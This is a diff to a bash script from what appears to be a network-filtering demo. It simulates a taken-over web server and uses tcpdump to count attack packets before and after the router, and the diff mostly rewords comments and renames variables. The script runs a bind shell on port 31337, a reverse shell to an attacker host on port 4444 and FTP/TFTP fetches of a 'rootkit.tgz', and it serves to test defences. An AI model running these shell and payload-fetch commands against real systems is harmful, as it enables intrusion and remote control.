@@ -1,11 +1,11 @@
 # shellcheck shell=bash disable=SC2034 # ROWS is read by the other pieces
-# The web server is taken over, and two witnesses count what comes of it: one on the server's own
-# wire (what it tried) and one beyond the router (what left). Sourced by scripts/demo.
+# The web server is taken over. Two captures count its packets: one on the server's own wire (tried) and
+# one beyond the router (left). Sourced by scripts/demo.
 
 WORM_TARGETS=120 # of each address family, in each round
 
-# One row of the table each: name, the packets that are meant as tcpdump says it, the drops that
-# are meant as the ledger names them, and the alarm they have to raise.
+# The rows of the table: a name, a filter of tcpdump for the packets, protocol and port of their drops in the
+# ledger, and the kind of alarm that they must cause.
 ROWS=(
     "worm scans tcp/80|tcp dst port 80|tcp 80|spread"
     "fetches a rootkit, tcp/21|tcp dst port 21|tcp 21|fetch"
@@ -17,13 +17,12 @@ FROM_WEB="(src host $WEB4 or src host $WEB6)"
 INTRUDERS=() # pids
 
 # infect_web PHASE SECONDS UNTIL: worm, reverse shell and the attacker at the back door try again and
-# again, as they do, until the function UNTIL is content or SECONDS are over. The download is tried
-# once, and given up before Linux has sent its fifth SYN: calling the same host all the time is
-# another alarm.
+# again, until the function UNTIL succeeds or SECONDS are over. The download is tried once and ends before
+# Linux sends a fifth SYN, because repeated calls to one host are another kind of alarm.
 infect_web() {
     local phase=$1 networks=("$INET4") worm=$FOLDER/worm.py knocker
     ! has_ipv6 || networks+=("$INET6")
-    [[ -e $worm ]] || install -m 755 "$HERE/demo.d/worm.py" "$worm" # www-data can't read every home
+    [[ -e $worm ]] || install -m 755 "$HERE/demo.d/worm.py" "$worm" # www-data cannot read every home folder
     INTRUDERS=()
     intrude "backdoor-$phase" ncat -n -l -k -e /bin/sh 31337
     wait_until 30 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor-$phase"
@@ -34,15 +33,15 @@ infect_web() {
     intrude "ftp-$phase" curl -sS --connect-timeout 3 -m 10 "ftp://$ATTACKER4/rootkit.tgz"
     intrude "tftp-$phase" curl -sS -m 5 "tftp://$ATTACKER4/rootkit.tgz"
     intrude_again "call-back-$phase" ncat -n -w 1 -e /bin/sh "$ATTACKER4" 4444
-    wait_until "$2" "$3" || true # what has not come is missed by the checks that follow
-    # Who knocks goes first: a refusal of his is no answer of a bind shell.
+    wait_until "$2" "$3" || true # the checks that follow find out what is missing
+    # The attacker at the back door ends first, so that no refusal is taken for an answer of the bind shell.
     kill_group "$knocker"
     kill_group "${INTRUDERS[@]}"
-    # The last segments of a dying connection are not part of what comes next.
-    wait_until 30 has_no_connections web || die "connections of the web server do not end"
+    # The last segments of old connections must not be counted in the next phase.
+    wait_until 30 has_no_connections web || die "connections of the web server do not close"
 }
 
-# intrude LOG COMMAND...: whoever breaks into a web server is www-data first.
+# intrude LOG COMMAND...: as www-data, the account that an intruder of a web server gets first.
 intrude() {
     start_in web "$LOGS/$1" setpriv --reuid=www-data --regid=www-data --clear-groups "${@:2}"
     INTRUDERS+=("$STARTED")
@@ -54,34 +53,33 @@ intrude_again() {
     intrude "$1" sh -c 'while :; do "$@"; done' - "${@:2}"
 }
 
-# has_no_connections MACHINE: a SYN-RECV whose listener is gone lingers, and sends nothing any more.
+# has_no_connections MACHINE: a connection in SYN-RECV without its listener lingers but sends nothing.
 has_no_connections() {
     [[ -z $(in_namespace "$1" ss -Htn state connected exclude time-wait exclude syn-recv) ]]
 }
 
-# start_witnesses PHASE: sets WITNESSES to their pids.
-start_witnesses() {
-    WITNESSES=()
-    start_witness web "$FOLDER/tried-$1.pcap" "$FROM_WEB"
-    start_witness inet "$FOLDER/left-$1.pcap" "src net $DMZ4 or src net $DMZ6"
+# start_captures PHASE: sets CAPTURES to their pids.
+start_captures() {
+    CAPTURES=()
+    start_capture web "$FOLDER/tried-$1.pcap" "$FROM_WEB"
+    start_capture inet "$FOLDER/left-$1.pcap" "src net $DMZ4 or src net $DMZ6"
 }
 
-# start_witness MACHINE FILE FILTER: immediate and unbuffered, so that the file can be asked at any
-# time. The shell opens the file: tcpdump gives root up before it writes, and the remedy, `-Z root`,
-# crashes Ubuntu 24.04's.
-start_witness() {
+# start_capture MACHINE FILE FILTER: immediate and unbuffered, so that the file can be read at any time. The
+# shell opens the file, because tcpdump gives up root before it writes. Its `-Z root` crashes on Ubuntu 24.04.
+start_capture() {
     local log=$2.log
     unconfined tcpdump -i eth0 -n -s 128 -U --immediate-mode -w - "$3"
     # shellcheck disable=SC2016 # expanded by the inner shell
     start_in "$1" "$log" sh -c 'exec "$@" >"$0"' "$2" "${UNCONFINED[@]}"
-    WITNESSES+=("$STARTED")
+    CAPTURES+=("$STARTED")
     wait_until 30 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
 }
 
-# stop_witnesses PHASE: a witness that missed packets is none.
-stop_witnesses() {
+# stop_captures PHASE: fails the run if a capture missed packets.
+stop_captures() {
     local log
-    kill_group "${WITNESSES[@]}"
+    kill_group "${CAPTURES[@]}"
     for log in "$FOLDER"/{tried,left}-"$1".pcap.log; do
         grep -qs '^0 packets dropped by kernel' "$log" || say_bad "tcpdump missed packets: $log"
     done
@@ -93,7 +91,7 @@ count_packets() {
     "${UNCONFINED[@]}" <"$1" 2>/dev/null | wc -l
 }
 
-# The journal of the attacker: what really worked.
+# The journal of the attacker has a line for each success.
 count_successes() { grep -c "^$1" "$FOLDER/attacker.journal" || true; }
 
 forget_successes() { : >"$FOLDER/attacker.journal"; }
